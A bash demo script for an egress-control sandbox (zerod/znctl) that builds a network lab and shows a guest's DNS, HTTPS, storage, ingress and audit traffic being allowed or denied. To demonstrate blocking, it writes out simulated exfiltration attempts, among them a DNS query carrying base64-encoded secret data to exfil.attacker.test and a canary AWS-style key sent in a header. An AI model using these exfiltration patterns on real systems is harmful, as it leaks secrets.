#!/usr/bin/env bash
# The demo: installs dependencies, builds, brings up the lab, starts zerod in
# the lab's host namespace, creates session user-1 with the example policy of
# DESIGN.md and shows from inside the guest what it can and cannot reach —
# then the audit trail. Cleans up after itself. Run as root: scripts/demo.sh
set -euo pipefail
cd "$(dirname "$0")/.."

if [ "$(id -u)" -ne 0 ]; then
  echo "scripts/demo.sh: run as root (it creates namespaces, TAPs and loads BPF)" >&2
  exit 1
fi

BUILD_DIR=${BUILD_DIR:-build}
scripts/install-deps.sh
cmake -S . -B "$BUILD_DIR" -DCMAKE_BUILD_TYPE=RelWithDebInfo > /dev/null
cmake --build "$BUILD_DIR" -j"$(nproc)" --target zn-lab zerod znctl zn-agent > /dev/null
# The tiny microVM guest of step 4 (Debian's cloud kernel, busybox, curl).
scripts/build-guest.sh "$BUILD_DIR/guest" > /dev/null
trap 'echo "demo failed; see above" >&2' ERR

PREFIX=zndemo
WORK=$(mktemp -d /tmp/zeroness-demo.XXXXXX)
LAB="$BUILD_DIR/tools/zn-lab/zn-lab --prefix $PREFIX"
ZNCTL="$BUILD_DIR/tools/znctl/znctl --socket $WORK/zerod.sock --state-dir $WORK/state --pin-root /sys/fs/bpf/zeroness-$PREFIX"
ZEROD_PID=""
UPSTREAM_PIDS=()
cleanup() {
  [ -n "$ZEROD_PID" ] && kill "$ZEROD_PID" 2> /dev/null && wait "$ZEROD_PID" 2> /dev/null || true
  for pid in "${UPSTREAM_PIDS[@]}"; do kill "$pid" 2> /dev/null || true; done
  $LAB down > /dev/null 2>&1 || true
  rm -rf "$WORK"
}
trap cleanup EXIT

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
in_guest() {
  printf '$ %s\n' "$*"
  $LAB exec g0 -- sh -c "$*" 2>&1 | sed 's/^/  /' || true
}

say "The lab: a stand-in internet (198.18.0.0/16), a host namespace, one guest behind TAP zn-tap0"
$LAB up --guests 1 --ungoverned

say "Real HTTPS upstreams in the stand-in internet (certificates from a lab CA zerod is told to trust)"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/labca.key" \
  -out "$WORK/labca.pem" -days 1 -subj "/CN=lab upstream CA" 2> /dev/null
for host in registry.npmjs.org api.github.com api.stripe.com; do
  openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/$host.key" -out "$WORK/$host.csr" \
    -subj "/CN=$host" 2> /dev/null
  echo "subjectAltName=DNS:$host" > "$WORK/$host.ext"
  openssl x509 -req -in "$WORK/$host.csr" -CA "$WORK/labca.pem" -CAkey "$WORK/labca.key" -CAcreateserial \
    -out "$WORK/$host.pem" -days 1 -extfile "$WORK/$host.ext" 2> /dev/null
done
echo "  registry.npmjs.org 198.18.0.12: openssl s_server (spliced: the guest sees its own certificate)"
ip netns exec "$PREFIX-inet" openssl s_server -accept 198.18.0.12:443 -cert "$WORK/registry.npmjs.org.pem" \
  -key "$WORK/registry.npmjs.org.key" -www -quiet > /dev/null 2>&1 &
UPSTREAM_PIDS+=($!)
echo "  api.github.com 198.18.0.10, api.stripe.com 198.18.0.11: echo servers (they log what reached them)"
for pair in api.github.com:198.18.0.10 api.stripe.com:198.18.0.11; do
  host=${pair%%:*} addr=${pair##*:}
  ip netns exec "$PREFIX-inet" python3 tests/support/echo_upstream.py "$addr" 443 "$WORK/upstream.log" \
    "$WORK/$host.pem" "$WORK/$host.key" > /dev/null 2>&1 &
  UPSTREAM_PIDS+=($!)
done

# The operator's stores for capabilities: a dataset and a drop box for results.
mkdir -p "$WORK/results"
python3 -c "import sqlite3; c = sqlite3.connect('$WORK/sales.db'); c.execute('create table sales(region text, amount integer)'); c.executemany('insert into sales values (?, ?)', [('north', 30), ('north', 12), ('south', 17)]); c.commit()"

say "zerod starts in the host namespace (the lab's names resolve to the stand-in internet)"
cat > "$WORK/zerod.json" << JSON
{ "netns": "$PREFIX-host", "pin_root": "/sys/fs/bpf/zeroness-$PREFIX",
  "state_dir": "$WORK/state", "host_key": "$WORK/host.key", "control_socket": "$WORK/zerod.sock",
  "upstream_ca_bundle": "$WORK/labca.pem",
  "upstream_allow": ["198.18.0.0/16", "2001:db8:18::/48"],
  "dns_static": { "api.github.com": ["198.18.0.10"], "api.stripe.com": ["198.18.0.11"],
                  "registry.npmjs.org": ["198.18.0.12"], "db.internal": ["198.18.0.13"],
                  "evil.example": ["198.18.0.66"], "api.openai.com": ["198.18.0.10"] },
  "vm_cache_dir": "$WORK/vmcache",
  "audit_sinks": [ { "name": "local", "type": "file", "path": "$WORK/export/audit.jsonl" },
                   { "name": "siem", "type": "file", "format": "ocsf", "events": ["egress:", "secret:"],
                     "path": "$WORK/export/siem.jsonl" } ],
  "stores": { "sql": { "sales": { "path": "$WORK/sales.db" } },
              "blob": { "results": { "directory": "$WORK/results" } } } }
JSON
"$BUILD_DIR/tools/zerod/zerod" --config "$WORK/zerod.json" > "$WORK/zerod.log" 2>&1 &
ZEROD_PID=$!
for _ in $(seq 50); do [ -S "$WORK/zerod.sock" ] && break; sleep 0.1; done

say "Session user-1 with the example policy (examples/policy.json), on the guest's TAP"
cat examples/policy.json | sed 's/^/  /'
$ZNCTL session create user-1 --policy examples/policy.json --device zn-tap0 --slot 0

say "Names the policy allows resolve — whatever resolver the guest names"
in_guest 'dig api.github.com @8.8.8.8 +short'
in_guest 'dig registry.npmjs.org @1.1.1.1 +short'
say "Denied by policy (deny rule) and by default: NXDOMAIN, and the name never leaves the host"
in_guest 'dig evil.example @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
in_guest 'dig api.openai.com @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
in_guest 'dig c2VjcmV0LXRva2Vu.exfil.attacker.test +tries=1 +time=2 | grep -o "status: [A-Z]*"'

# The guest trusts the deployment CA (zerod made it on first start) and the lab CA.
cat "$WORK/labca.pem" "$WORK/state/ca/ca.pem" > "$WORK/guest-trust.pem"
CURL="curl -s -m 5 --cacert $WORK/guest-trust.pem"

say "HTTPS to an allowed host: steered to zerod's proxy, spliced to the upstream zerod resolved"
in_guest "$CURL https://registry.npmjs.org/ | head -2; echo '(answered by the upstream itself, with its own certificate)'"
in_guest "$CURL --resolve registry.npmjs.org:443:198.18.0.13 https://registry.npmjs.org/ | head -1; echo '(guest aimed at 198.18.0.13: zerod still went to the real host)'"

say "1. api.github.com: GET /repos/** allowed — TLS terminated with a leaf of the deployment CA, request checked, forwarded"
in_guest "$CURL -w ' -> %{http_code}\\n' https://api.github.com/repos/zeroness/zeroness"
in_guest "$CURL -w ' -> %{http_code}\\n' -X DELETE https://api.github.com/repos/zeroness/zeroness"
in_guest "$CURL -w ' -> %{http_code}\\n' https://api.github.com/user"
in_guest "$CURL -w ' -> %{http_code}\\n' -H 'Host: api.stripe.com' https://api.github.com/repos/x"

say "2. api.stripe.com: identity injected at egress — the guest sends its own token, the upstream gets the resource's"
in_guest "$CURL -w ' -> %{http_code}\\n' -H 'Authorization: Bearer guest-made-up' -d amount=500 https://api.stripe.com/v1/charges"
echo "  what reached the upstream (its log; the echo to the guest shows only a hash):"
grep -o '"Authorization", "[^"]*"' "$WORK/upstream.log" | tail -1 | sed -E 's/(Bearer .{8})[^"]*/\1… (the resource'"'"'s token, shortened here)/; s/^/    /'
echo "  the guest saw it? $($LAB exec g0 -- sh -c "$CURL -d a=1 https://api.stripe.com/v1/x" | grep -c sk_live || true) times"

say "2b. A placeholder for SDKs that want a key: the guest's environment gets a stand-in (znctl session show)"
PH=$($ZNCTL -j session show user-1 | python3 -c 'import json,sys; print(json.load(sys.stdin)["guest_env"]["STRIPE_API_KEY"])')
echo "  STRIPE_API_KEY=$PH"
in_guest "$CURL -w ' -> %{http_code}\\n' -d api_key=$PH https://api.stripe.com/v1/tokens"
echo "  the body that reached api.stripe.com: $(grep -o '"body": "api_key=[^"]*"' "$WORK/upstream.log" | tail -1 | sed -E 's/(api_key=.{12})[^"]*/\1…/') (swapped for the real key)"
in_guest "$CURL -w ' -> %{http_code}\\n' 'https://api.github.com/repos/x?key=$PH'"
echo "  (the same placeholder headed for another host: refused, secret:misuse)"

say "2c. A minted identity: api.github.com POST /repos/*/*/issues gets a JWT zerod signs for that one request"
in_guest "$CURL -o /dev/null -w ' -> %{http_code}\\n' -d '{\"title\":\"hi\"}' https://api.github.com/repos/zeroness/zeroness/issues"
JWT=$(grep -o '"Authorization", "Bearer eyJ[^"]*"' "$WORK/upstream.log" | tail -1 | sed -E 's/.*Bearer //; s/"$//')
echo "  claims the upstream received (verifiable with znctl identity jwks):"
echo "$JWT" | cut -d. -f2 | python3 -c 'import base64,json,sys; s=sys.stdin.read().strip(); print(json.dumps(json.loads(base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))), indent=None))' | sed 's/^/    /'
echo "  $($ZNCTL -j identity jwks | head -c 160)…"

say "2d. A canary the operator planted: any appearance in egress is refused and raises secret:canary"
in_guest "$CURL -w ' -> %{http_code}\\n' -H 'X-Aws-Key: AKIAZNDEMOCANARY0001' https://api.github.com/repos/x"
in_guest 'dig akia-zn-demo.canary0001.exfil.example @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'

say "2e. Storage by capability handle: the guest reads a dataset (SQL, read-only) and writes its result (a blob)"
GUEST_ENV=$($ZNCTL -j session show user-1)
SALES=$(echo "$GUEST_ENV" | python3 -c 'import json,sys; print(json.load(sys.stdin)["guest_env"]["ZN_CAP_SALES"])')
RESULTS=$(echo "$GUEST_ENV" | python3 -c 'import json,sys; print(json.load(sys.stdin)["guest_env"]["ZN_CAP_RESULTS"])')
echo "  ZN_CAP_SALES=$SALES  (cap.zeroness.internal is zerod itself: nothing leaves the host)"
in_guest "$CURL -d '{\"sql\":\"select region, sum(amount) as total from sales group by region\"}' https://cap.zeroness.internal/v1/sql/$SALES; echo"
in_guest "$CURL -w ' -> %{http_code}\\n' -d '{\"sql\":\"with x as (select 1) delete from sales\"}' https://cap.zeroness.internal/v1/sql/$SALES"
in_guest "$CURL -w ' -> %{http_code}\\n' -X PUT --data-binary 'north leads: 42' https://cap.zeroness.internal/v1/blob/$RESULTS/run-1/summary.txt"
echo "  in the operator's directory: $(cat "$WORK/results/run-1/summary.txt")"
in_guest "$CURL -w ' -> %{http_code}\\n' https://cap.zeroness.internal/v1/blob/cap:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/run-1/summary.txt"
echo "  (a guessed handle: the same 404 as a missing object, audited resource:deny)"

say "3. Under default deny: api.stripe.com without its rule -> 403 default deny"
grep -v 'api.stripe.com' examples/policy.json > "$WORK/no-stripe.json"
$ZNCTL session update user-1 --policy "$WORK/no-stripe.json" > /dev/null
in_guest "$CURL -w ' -> %{http_code}\\n' --resolve api.stripe.com:443:198.18.0.11 https://api.stripe.com/v1/charges"
in_guest "$CURL -w ' -> %{http_code}\\n' --resolve evil.example:443:198.18.0.13 https://evil.example/"
$ZNCTL session update user-1 --policy examples/policy.json > /dev/null

say "3b. Ingress stays closed until declared: the guest serves port 8080; the host reaches it only with a one-time ticket"
mkdir -p "$WORK/www" && echo "hello from the guest's port 8080" > "$WORK/www/index.html"
ip netns exec "$PREFIX-g0" python3 -m http.server 8080 --bind 0.0.0.0 --directory "$WORK/www" > /dev/null 2>&1 &
UPSTREAM_PIDS+=($!)
for _ in $(seq 50); do $LAB exec g0 -- nc -z 127.0.0.1 8080 2> /dev/null && break; sleep 0.1; done
EXPOSED=$($ZNCTL session expose user-1 --port 8080)
echo "  $EXPOSED"
LISTEN=${EXPOSED##* via }
LISTEN=${LISTEN%% *}
in_host() {
  printf '$ %s\n' "$*"
  ip netns exec "$PREFIX-host" sh -c "$*" 2>&1 | sed 's/^/  /' || true
}
in_host "curl -s -m 5 -w ' -> %{http_code}\\n' http://$LISTEN/"
TICKET=$($ZNCTL -j session ticket user-1 --port 8080 | python3 -c 'import json,sys; print(json.load(sys.stdin)["ticket"])')
echo "  znctl session ticket user-1 --port 8080 -> $TICKET (one use)"
in_host "curl -s -m 5 -w ' -> %{http_code}\\n' -H 'Zn-Ticket: $TICKET' http://$LISTEN/"
in_host "curl -s -m 5 -w ' -> %{http_code}\\n' -H 'Zn-Ticket: $TICKET' http://$LISTEN/"
echo "  (the replayed ticket: 403; ingress:admit and ingress:deny reason ticket_used in the audit)"
$ZNCTL session unexpose user-1 --port 8080 > /dev/null

say "3c. A signed command: zn-agent in the guest runs only what zerod signed (Ed25519, fresh, never replayed)"
echo "  and zerod relays only what the agent sealed under the session's result key"
$ZNCTL agent provision user-1 --out "$WORK/agent.conf" | sed 's/^/  /'
ip netns exec "$PREFIX-g0" "$BUILD_DIR/tools/zn-agent/zn-agent" --config "$WORK/agent.conf" \
  --listen 0.0.0.0:7070 > "$WORK/agent.log" 2>&1 &
UPSTREAM_PIDS+=($!)
for _ in $(seq 50); do $LAB exec g0 -- nc -z 127.0.0.1 7070 2> /dev/null && break; sleep 0.1; done
echo "$ znctl exec user-1 -- sh -c 'echo \"hello from the guest, uid \$(id -u)\"; exit 3'"
$ZNCTL exec user-1 -- sh -c 'echo "hello from the guest, uid $(id -u)"; exit 3' 2>&1 | sed 's/^/  /' || echo "  (exit $?)"
echo "  from the host side, unsigned, the agent port is not even reachable: $(ip netns exec "$PREFIX-host" nc -z -w 2 198.19.0.2 7070 > /dev/null 2>&1 && echo reached || echo dropped)"

say "4. A real microVM: QEMU on session vm-1's own TAP, governed exactly like the lab guest"
$ZNCTL session create vm-1 --policy examples/policy.json --slot 1 | sed 's/^/  /'
cat > "$WORK/user-data" << 'SH'
echo "inside the VM: $(uname -sr), $(ip -4 -o addr show eth0 | awk '{print $4}')"
echo "dns api.github.com -> $(nslookup api.github.com 2>/dev/null | awk '/^Address/ {a=$NF} END {print a}')"
echo "GET  https://api.github.com/repos/x -> $(curl -s -m 10 -o /dev/null -w '%{http_code}' https://api.github.com/repos/x)"
echo "POST https://api.github.com/user    -> $(curl -s -m 10 -o /dev/null -w '%{http_code}' -d x=1 https://api.github.com/user)"
ping -c 1 -W 2 198.18.0.10 > /dev/null 2>&1 && echo "ping: through" || echo "ping: dropped"
echo "secrets in the VM's environment: $(env | grep -ci sk_live)"
SH
GUEST=$(realpath "$BUILD_DIR/guest")
$ZNCTL vm run vm-1 --kernel "$GUEST/vmlinuz" --initrd "$GUEST/initramfs.cpio.gz" \
  --memory 256M --user-data "$WORK/user-data" | sed 's/^/  /'
for _ in $(seq 600); do grep -q ZN-USER-DATA-END <<< "$($ZNCTL vm console vm-1)" && break; sleep 0.2; done
$ZNCTL vm console vm-1 | sed -n '/ZN-USER-DATA-BEGIN/,/ZN-USER-DATA-END/p' | sed 's/^/  /'
echo "$ znctl exec vm-1 -- sh -c 'echo \"in the VM as uid \$(id -u)\"; cat /run/zn-agent/agent.conf'   (the agent's key: root's alone)"
$ZNCTL exec vm-1 -- sh -c 'echo "in the VM as uid $(id -u)"; cat /run/zn-agent/agent.conf' < /dev/null 2>&1 |
  sed 's/^/  /' || true
$ZNCTL session delete vm-1 > /dev/null
echo "  session vm-1 deleted: its VM stopped, its TAP, directory and cgroup gone ($($ZNCTL -j vm list))"

say "Everything else is dropped at the TAP"
in_guest 'ping -c 1 -W 1 198.18.0.10 > /dev/null || echo "ping: blocked"'
in_guest 'nc -z -w 2 198.18.0.10 22 || echo "ssh: blocked"'

say "No secrets in the guest"
in_guest 'env | grep -i token || echo "(no token in the environment)"'

sleep 1.2  # drop events reach the audit trail once a second
say "What the datapath did, per reason (znctl stats user-1)"
$ZNCTL stats user-1
say "The audit trail of user-1 (znctl audit query --sid user-1)"
$ZNCTL audit query --sid user-1
$ZNCTL audit verify
say "The audit as exported: sealed batches under zerod's audit key, verified against the head (znctl audit verify FILE --anchor)"
ANCHOR=$($ZNCTL audit head)
for _ in $(seq 50); do  # the exporter catches up within a moment
  [ "$($ZNCTL -j audit sinks | python3 -c 'import json,sys; print(sum(s["backlog"] for s in json.load(sys.stdin)))')" = 0 ] && break
  sleep 0.1
done
$ZNCTL audit sinks
$ZNCTL audit verify "$WORK/export/audit.jsonl" --anchor "$ANCHOR"
echo "  one OCSF line of the siem sink (egress and secret events only):"
grep -m1 '"class_uid"' "$WORK/export/siem.jsonl" | cut -c1-200
sed 's/"status":200/"status":201/' "$WORK/export/audit.jsonl" > "$WORK/export/edited.jsonl"
echo "  an edited copy (one status changed):"
$ZNCTL audit verify "$WORK/export/edited.jsonl" || echo "  (exit $?: the edit is caught)"
say "Done; stopping zerod and tearing the lab down"
